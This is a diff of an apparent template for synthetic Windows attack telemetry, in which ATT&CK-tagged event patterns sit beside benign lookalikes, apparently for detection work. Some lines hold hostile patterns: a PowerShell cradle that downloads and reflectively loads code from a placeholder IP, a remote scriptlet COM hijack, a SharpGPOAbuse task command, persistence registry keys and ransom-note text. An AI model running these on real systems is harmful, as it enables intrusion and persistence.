@@ -15,10 +15,10 @@ rare-ifeo-key value +T1546.012: ‹writer› ;; HKLM\SOFTWARE\«WOW6432Node\¦»
 rare-ifeo-child process +T1546.012: ‹own› ;; ‹own› C:\Windows\System32\notepad.exe ;; C:\Windows\explorer.exe
 rare-silent-exit value +T1546.012: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\«notepad¦winword¦‹name›».exe\MonitorProcess ;; «‹own›¦‹payload›»
 near-rare-ifeo-key value: «C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\gflags.exe¦C:\Windows\System32\svchost.exe¦C:\Windows\System32\msiexec.exe» ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\‹name›.exe\«PageHeapFlags¦MitigationOptions¦UseLargePages¦CFGOptions» ;; DWORD (0x0000000«1¦3»)
-rare-com-server value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\{‹guid›}\«InprocServer32¦LocalServer32»\(Default) ;; «‹ownplace›\‹name›.dll¦‹own›»
-rare-com-treat value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\{‹guid›}\«TreatAs\(Default)¦ScriptletURL\(Default)¦InprocServer32\ThreadingModel» ;; «{‹guid›}¦http://‹ip›/‹name›.sct¦C:\ProgramData\‹name›.dll»
-rare-com-load load +T1546.015: «C:\Windows\explorer.exe¦‹browser›¦‹s32›\taskhostw.exe» ;; C:\Users\‹user›\AppData\«Roaming¦Local\Temp¦LocalLow»\{‹guid›}\‹name›.dll
-near-rare-com-server value: «C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\OneDrive.exe¦C:\Windows\System32\msiexec.exe¦C:\Program Files\Dropbox\Client\Dropbox.exe» ;; ‹hku›_Classes\CLSID\{‹guid›}\InprocServer32\(Default) ;; C:\«Users\‹user›\AppData\Local\Microsoft\OneDrive\23.‹n›\FileSyncShell64.dll¦Program Files\Dropbox\Client\DropboxExt64.‹n›.dll»
+rare-com-server value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\‹guid›\«InprocServer32¦LocalServer32»\(Default) ;; «‹ownplace›\‹name›.dll¦‹own›»
+rare-com-treat value +T1546.015: «‹ps›¦‹reg›¦‹own›» ;; ‹hku›_Classes\CLSID\‹guid›\«TreatAs\(Default)¦ScriptletURL\(Default)¦InprocServer32\ThreadingModel» ;; «‹guid›¦http://‹ip›/‹name›.sct¦C:\ProgramData\‹name›.dll»
+rare-com-load load +T1546.015: «C:\Windows\explorer.exe¦‹browser›¦‹s32›\taskhostw.exe» ;; C:\Users\‹user›\AppData\«Roaming¦Local\Temp¦LocalLow»\‹guid›\‹name›.dll
+near-rare-com-server value: «C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\OneDrive.exe¦C:\Windows\System32\msiexec.exe¦C:\Program Files\Dropbox\Client\Dropbox.exe» ;; ‹hku›_Classes\CLSID\‹guid›\InprocServer32\(Default) ;; C:\«Users\‹user›\AppData\Local\Microsoft\OneDrive\23.‹n›\FileSyncShell64.dll¦Program Files\Dropbox\Client\DropboxExt64.‹n›.dll»
 rare-screensaver-key value +T1546.002: ‹writer› ;; ‹hku›\Control Panel\Desktop\SCRNSAVE.EXE ;; ‹ownplace›\‹name›.«scr¦exe»
 rare-screensaver-run process +T1546.002: ‹ownplace›\‹name›.scr ;; ‹ownplace›\‹name›.scr /s ;; ‹s32›\winlogon.exe ;; winlogon.exe
 rare-screensaver-file file +T1546.002: ‹writer› ;; C:\Windows\«System32¦SysWOW64¦»\‹name›.scr
@@ -27,7 +27,7 @@ rare-handler-key value +T1546.001: ‹writer› ;; «HKLM\SOFTWARE\Classes¦‹h
 rare-appcert-key value +T1546.009: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\AppCertDlls\‹name› ;; ‹ownplace›\‹name›.dll
 rare-appcert-load load +T1546.009: C:\Windows\«explorer¦System32\cmd¦System32\svchost».exe ;; C:\«Windows\Temp¦ProgramData»\AppCert«‹n›¦_‹name›».dll
 rare-appinit-load load +T1546.010: «‹s32›\«notepad¦mspaint».exe¦‹browser›» ;; C:\«ProgramData¦Windows\Temp»\«appinit¦AppInit_‹name›¦hook_‹name›».dll
-rare-shim-file file +T1546.011: «‹sys›\sdbinst.exe¦‹ps›¦‹own›» ;; C:\Windows\apppatch\Custom\«Custom64\¦»{‹guid›}.sdb
+rare-shim-file file +T1546.011: «‹sys›\sdbinst.exe¦‹ps›¦‹own›» ;; C:\Windows\apppatch\Custom\«Custom64\¦»‹guid›.sdb
 rare-shim-run process +T1546.011: @ ;; "C:\Windows\System32\sdbinst.exe" -q «-u ¦»‹ownplace›\‹name›.sdb ;; «‹cmd›¦‹ps›¦‹own›»
 near-rare-shim process: @ ;; "C:\Windows\System32\sdbinst.exe" -m -bg ;; C:\Windows\System32\svchost.exe ;; C:\Windows\system32\svchost.exe -k netsvcs -p
 rare-profile-file file +T1546.013: «‹ps›¦‹cmd›¦‹own›» ;; C:\«Users\‹user›\Documents\«WindowsPowerShell¦PowerShell»\«Microsoft.PowerShell_profile¦profile¦Microsoft.VSCode_profile».ps1¦Windows\System32\WindowsPowerShell\v1.0\«profile¦Microsoft.PowerShell_profile».ps1»
@@ -45,7 +45,7 @@ rare-monitor-key value +T1547.010: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet
 rare-processor-key value +T1547.012: «‹writer›¦C:\Windows\System32\spoolsv.exe» ;; HKLM\SYSTEM\CurrentControlSet\Control\Print\Environments\Windows x64\Print Processors\‹name›\Driver ;; «‹name›.dll¦..\..\..\..\ProgramData\‹name›.dll»
 rare-processor-file file +T1547.012: «‹own›¦‹ps›¦‹cmd›» ;; C:\Windows\System32\spool\prtprocs\x64\‹name›.dll
 near-rare-print-key value: C:\Windows\System32\spoolsv.exe ;; HKLM\SYSTEM\CurrentControlSet\Control\Print\«Printers\‹Word›\PrinterDriverData\FreeMem¦Environments\Windows x64\Print Processors\hpzppwn7\Driver¦Monitors\HP Universal Print Monitor\Driver» ;; «DWORD (0x00000400)¦hpzppwn7.dll¦HPMPM082.DLL»
-rare-active-key value +T1547.014: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Active Setup\Installed Components\«{‹guid›}¦‹name›»\StubPath ;; «‹payload›¦‹own›»
+rare-active-key value +T1547.014: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Active Setup\Installed Components\«‹guid›¦‹name›»\StubPath ;; «‹payload›¦‹own›»
 rare-active-run process +T1547.014: ‹own› ;; "‹own›" ;; C:\Windows\SysWOW64\runonce.exe ;; C:\Windows\SysWOW64\runonce.exe /AlternateShellStartup
 near-rare-active-key value: C:\Program Files«¦ (x86)»\Google\Chrome\Application\1‹n›.0.‹pid›.‹n›\Installer\setup.exe ;; HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}\StubPath ;; "C:\Program Files\Google\Chrome\Application\1‹n›.0.‹pid›.‹n›\Installer\chrmstp.exe" --configure-user-settings
 rare-winlogon-key value +T1547.004: ‹writer› ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\Windows NT\CurrentVersion\Winlogon\«Userinit¦Shell¦Notify\‹name›\DllName» ;; «C:\Windows\system32\userinit.exe,‹own›¦explorer.exe, ‹own›»
@@ -74,12 +74,12 @@ rare-outlook-child process +T1137.005: @ ;; «"‹own›"¦\\‹ip›\share\‹n
 near-rare-office-key value: C:\Program Files\Microsoft Office\root\Office16\«OUTLOOK¦EXCEL¦WINWORD».EXE ;; ‹hku›\Software\Microsoft\Office\16.0\«Excel\Options\DefaultFormat¦Outlook\Addins\TeamsAddin.FastConnect\LoadBehavior¦Word\Options\AutosaveInterval» ;; DWORD (0x00000003)
 rare-at-file file +T1053.002: C:\Windows\System32\«svchost¦taskeng».exe ;; C:\Windows\«System32\Tasks¦Tasks»\At‹n›
 rare-at-task task +T1053.002: \At‹n› ;; «cmd.exe§/C whoami > %windir%\Temp\‹letters8›.tmp 2>&1¦‹own›§¦cmd.exe§/c ‹ownplace›\‹name›.bat»
-rare-bits-job log +T1197: Microsoft-Windows-Bits-Client|Microsoft-Windows-Bits-Client/Operational|3 ;; jobTitle=‹name› ;; jobId={‹guid›} ;; jobOwner=‹domain›\‹user› ;; processPath=‹own›
+rare-bits-job log +T1197: Microsoft-Windows-Bits-Client|Microsoft-Windows-Bits-Client/Operational|3 ;; jobTitle=‹name› ;; jobId=‹guid› ;; jobOwner=‹domain›\‹user› ;; processPath=‹own›
 rare-bits-child process +T1197: ‹own› ;; "‹own›" ;; C:\Windows\System32\svchost.exe ;; C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS
 rare-path-service process +T1574.009: C:\«Program¦Program Files\‹Word›».exe ;; C:\Program Files\‹Word› ‹Word›\service.exe ;; C:\Windows\System32\services.exe ;; C:\Windows\system32\services.exe
 rare-path-service-file file +T1574.009: «‹ps›¦‹cmd›¦‹own›» ;; C:\«Program¦Program Files\‹Word›¦Program Files (x86)\Common».exe
 rare-service-path value +T1574.011: «‹ps›¦‹own›¦‹reg›» ;; HKLM\SYSTEM\CurrentControlSet\Services\«Spooler¦Fax¦WerSvc¦UsoSvc¦XblAuthManager»\«ImagePath¦FailureCommand¦Performance\Library» ;; «‹own›¦cmd.exe /c ‹own›¦‹ownplace›\‹name›.dll»
-rare-profiler-key value +T1574.012: ‹writer› ;; «‹hku›\Environment¦HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Environment»\«COR_PROFILER¦CORECLR_PROFILER_PATH¦COR_PROFILER_PATH¦COR_ENABLE_PROFILING» ;; «{‹guid›}¦‹ownplace›\‹name›.dll»
+rare-profiler-key value +T1574.012: ‹writer› ;; «‹hku›\Environment¦HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Environment»\«COR_PROFILER¦CORECLR_PROFILER_PATH¦COR_PROFILER_PATH¦COR_ENABLE_PROFILING» ;; «‹guid›¦‹ownplace›\‹name›.dll»
 rare-profiler-load load +T1574.012: «‹s32›\«mmc¦eventvwr¦taskhostw».exe¦‹ps›» ;; ‹ownplace›\«profiler‹n›¦cor_‹name›¦‹name›Profiler».dll
 near-rare-profiler value: «C:\Windows\System32\msiexec.exe¦C:\Program Files\New Relic\.NET Agent\installer.exe» ;; HKLM\SYSTEM\CurrentControlSet\Services\W3SVC\Environment ;; COR_ENABLE_PROFILING=1 COR_PROFILER={71DA0A04-7777-4EC6-9643-7D28B46A8A41} NEWRELIC_INSTALL_PATH=C:\Program Files\New Relic\.NET Agent\
 # Accounts and passwords
@@ -137,7 +137,7 @@ near-rare-doc process: C:\Program Files\Microsoft Office\root\Office16\«WINWORD
 rare-wallpaper value +T1491.001: «‹own›¦‹ps›» ;; ‹hku›\Control Panel\Desktop\«Wallpaper¦WallpaperStyle» ;; ‹ownplace›\«‹letters8›.bmp¦ransom.jpg¦README.png»
 rare-legal value +T1491.001: «‹own›¦‹ps›¦‹reg›» ;; HKLM\SOFTWARE\Microsoft\Windows«¦ NT»\CurrentVersion\«Policies\System\legalnoticetext¦Policies\System\legalnoticecaption¦Winlogon\LegalNoticeText» ;; «PYSA¦Your files are encrypted by ‹Word›. Write to ‹name›@onionmail.org¦All data was stolen and encrypted»
 near-rare-wallpaper value: C:\Windows\«explorer.exe¦System32\svchost.exe» ;; ‹hku›\Control Panel\Desktop\Wallpaper ;; C:\«Windows\Web\Wallpaper\Windows\img0.jpg¦Users\‹user›\Pictures\‹name›.jpg¦ProgramData\‹Word›\branding.jpg»
-rare-policy-file file +T1484.001: «‹own›¦‹ps›» ;; \\‹fqdn›\SYSVOL\‹fqdn›\Policies\{‹guid›}\«Machine\Preferences\ScheduledTasks\ScheduledTasks.xml¦Machine\Scripts\Startup\‹name›.bat¦Machine\Microsoft\Windows NT\SecEdit\GptTmpl.inf»
+rare-policy-file file +T1484.001: «‹own›¦‹ps›» ;; \\‹fqdn›\SYSVOL\‹fqdn›\Policies\‹guid›\«Machine\Preferences\ScheduledTasks\ScheduledTasks.xml¦Machine\Scripts\Startup\‹name›.bat¦Machine\Microsoft\Windows NT\SecEdit\GptTmpl.inf»
 rare-policy-tool process +T1484.001: ‹ownplace›\«SharpGPOAbuse¦StandIn¦pyGPOAbuse¦‹name›».exe ;; ‹ownplace›\«SharpGPOAbuse¦‹name›».exe --Add«ComputerTask --TaskName ‹name› --Author ‹domain›\‹user› --Command cmd.exe --Arguments "/c ‹name›"¦LocalAdmin --UserAccount ‹user›» --GPOName "Default Domain Policy" ;; «‹cmd›¦‹ps›»
 rare-reflect-script log +T1620: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; MessageTotal=1 ;; ScriptBlockText=«$d=(New-Object Net.WebClient).DownloadData('http://‹ip›/‹name›.bin'); $t=[Reflection.Assembly]::Load($d).GetTypes()[0]; $t.GetMethods()[0].Invoke($null,$null)¦[AppDomain]::CurrentDomain.Load([IO.File]::ReadAllBytes('C:\ProgramData\‹name›.dat')).EntryPoint.Invoke($null,@(,@('‹name›')))»
 rare-exploit-netlogon log +T1210: NETLOGON|System|«5805¦5723» ;; param1=«mimikatz¦‹letters8›» ;; param2=‹domain› ;; param3=%%5
